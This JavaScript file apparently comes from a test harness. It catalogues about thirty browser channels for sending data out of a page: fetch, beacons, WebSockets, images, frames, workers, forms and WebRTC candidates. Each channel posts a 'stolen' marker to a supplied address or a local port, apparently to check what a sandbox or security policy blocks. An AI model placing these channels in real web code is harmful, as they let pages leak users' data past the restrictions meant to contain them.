// Ways to send something elsewhere by script. Each takes an address of its own, `at`, with a slash at its end, and the
// port it stands for.

const attacks = (globalThis.attacks ??= {});

const bridge = (code) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
const add = (tag, properties, parent = document.body) => {
  const element = Object.assign(document.createElement(tag), properties);
  parent.append(element);
  return element;
};

Object.assign(attacks, {
  "fetch": (at) => fetch(`${at}fetch`),
  "fetch without CORS": (at) => fetch(`${at}opaque`, { mode: "no-cors", method: "POST", body: "stolen" }),
  "fetch that outlives the page": (at) => fetch(`${at}alive`, { mode: "no-cors", method: "POST", body: "stolen", keepalive: true }),
  "XMLHttpRequest": (at) => {
    const request = new XMLHttpRequest();
    request.open("POST", `${at}xhr`);
    request.send("stolen");
  },
  "beacon": (at) => void navigator.sendBeacon(`${at}beacon`, "stolen"),
  "WebSocket": (at) => void new WebSocket(`${at}socket`.replace("http", "ws")),
  "EventSource": (at) => void new EventSource(`${at}events`),
  "image": (at) => void (new Image().src = `${at}image?stolen`),
  "image of a set": (at) => void add("img", { srcset: `${at}set 1x` }),
  "background image": (at) => void (document.body.style.backgroundImage = `url(${at}background)`),
  "video": (at) => void add("video", { src: `${at}video`, preload: "auto" }).load(),
  "audio": (at) => void add("audio", { src: `${at}audio`, preload: "auto" }).load(),
  "font": (at) => new FontFace("stolen", `url(${at}font)`).load(),
  "script": (at) => void add("script", { src: `${at}script` }),
  "module": (at) => import(`${at}module.js`),
  "style sheet": (at) => void add("link", { rel: "stylesheet", href: `${at}style` }, document.head),
  "frame": (at) => void add("iframe", { src: `${at}frame` }),
  "frame with its own page": (at) => void add("iframe", { srcdoc: `<img src="${at}srcdoc">` }),
  "object": (at) => void add("object", { data: `${at}object`, type: "text/html" }),
  "embed": (at) => void add("embed", { src: `${at}embed`, type: "text/html" }),
  "worker that fetches": (at) => void new Worker(bridge(`fetch("${at}worker", { mode: "no-cors" })`)),
  "worker from elsewhere": (at) => void new Worker(`${at}worker.js`),
  "shared worker that fetches": (at) => void new SharedWorker(bridge(`fetch("${at}shared", { mode: "no-cors" })`)),
  "worklet": (at) => new AudioContext().audioWorklet.addModule(`${at}worklet.js`),
  "form by POST": (at) => submit({ action: `${at}form`, method: "post" }),
  "form by GET": (at) => submit({ action: `${at}form`, method: "get" }),
  "form into a new window": (at) => submit({ action: `${at}blank`, method: "post", target: "_blank" }),
  "form into the top": (at) => submit({ action: `${at}top`, method: "post", target: "_top" }),
  "WebRTC by STUN": (_, port) => peer({ urls: `stun:127.0.0.1:${port}` }),
  "WebRTC by TURN over TCP": (_, port) => peer({ urls: `turn:127.0.0.1:${port}?transport=tcp`, username: "stolen", credential: "x" }),
  "WebRTC straight to a peer": (_, port) => straightToPeer(port),
});

function submit(properties) {
  const form = add("form", properties);
  add("input", { name: "stolen", value: "yes" }, form);
  form.submit();
}

async function peer(server) {
  const connection = new RTCPeerConnection({ iceServers: [server] });
  connection.createDataChannel("out");
  await connection.setLocalDescription(await connection.createOffer());
}

// No server at all: the other side's description names an address, and the browser checks whether it answers.
async function straightToPeer(port) {
  const [ours, theirs] = [new RTCPeerConnection(), new RTCPeerConnection()];
  ours.createDataChannel("out");
  await ours.setLocalDescription(await ours.createOffer());
  await theirs.setRemoteDescription(ours.localDescription);
  const answer = await theirs.createAnswer();
  await ours.setRemoteDescription(answer);
  await ours.addIceCandidate({ candidate: `candidate:1 1 udp 2122260223 127.0.0.1 ${port} typ host`, sdpMid: "0", sdpMLineIndex: 0 });
}
